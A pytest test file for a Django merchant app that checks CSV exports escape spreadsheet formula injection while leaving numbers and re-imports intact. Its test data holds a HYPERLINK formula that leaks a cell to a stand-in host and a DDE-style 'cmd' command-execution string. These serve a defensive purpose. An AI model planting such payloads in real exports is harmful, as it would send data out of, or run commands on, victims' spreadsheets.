"""CSV downloads never hand a spreadsheet a formula: every text cell that starts with =, +, -, @,
tab or CR gets a leading ', in every export (products, statements), while numbers stay numbers
and an export still re-imports unchanged."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client

from commissions.models import Order
from core.csv_upload import write_csv
from merchants.models import Product
from tests.commissions.statements_support import at, sale, settle
from tests.factories import ProductFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def streamed(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+86 138 0013 8000", "'+86 138 0013 8000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("-inf", "'-inf"),
        ("- 12", "'- 12"),
        ("Linen midi dress", "Linen midi dress"),
        ("", ""),
        (Decimal("-12.50"), "-12.50"),
        (-7, "-7"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_are_not(cell, written):
    text = "".join(write_csv(["cell"], [[cell]]))

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))

    assert rows == [["cell"], [written]]


@pytest.fixture
def booby_trapped(merchant):
    return ProductFactory(
        merchant=merchant.organisation, title=FORMULA, brand="@evil", price=Decimal("199.00")
    )


def test_the_api_product_export_is_guarded(api, merchant, booby_trapped):
    response = api.as_member(merchant).get("/api/v1/products/export/")

    (row,) = rows_of(streamed(response))
    assert row["title"] == "'" + FORMULA
    assert row["brand"] == "'@evil"
    assert row["price"] == "199.00"
    assert row["sku"] == booby_trapped.sku


def test_the_portal_product_export_is_guarded(merchant, booby_trapped):
    client = Client()
    client.force_login(merchant)

    response = client.get("/products/export/")

    (row,) = rows_of(streamed(response))
    assert (row["title"], row["brand"]) == ("'" + FORMULA, "'@evil")


def test_a_guarded_export_re_imports_unchanged(api, merchant, booby_trapped):
    member = api.as_member(merchant)
    exported = streamed(member.get("/api/v1/products/export/"))
    before = Product.objects.values().get(pk=booby_trapped.pk)

    response = member.post("/api/v1/products/import/", data=exported, content_type="text/csv")

    assert response.status_code == 200, response.content
    assert response.json() == {"created": 0, "updated": 0}
    assert Product.objects.values().get(pk=booby_trapped.pk) == before


def test_the_statement_csv_guards_order_ids_and_keeps_negative_amounts(
    api, merchant, buyer, provider
):
    commission = sale(
        merchant=merchant.organisation, buyer=buyer.organisation, provider=provider.organisation
    )
    Order.objects.filter(pk=commission.order_id).update(external_id=FORMULA)
    settle(commission, at(2026, 10, 3))
    url = "/api/v1/statements/"

    response = api.as_member(merchant).get(url, {"month": "2026-10", "format": "csv"})

    (line,) = [row for row in rows_of(response.content) if row["section"] == "lines"]
    assert line["order"] == "'" + FORMULA
    assert line["amount"] == "-30.00"
    closing = rows_of(response.content)[-1]
    assert (closing["section"], closing["amount"]) == ("closing_balance", "-30.00")
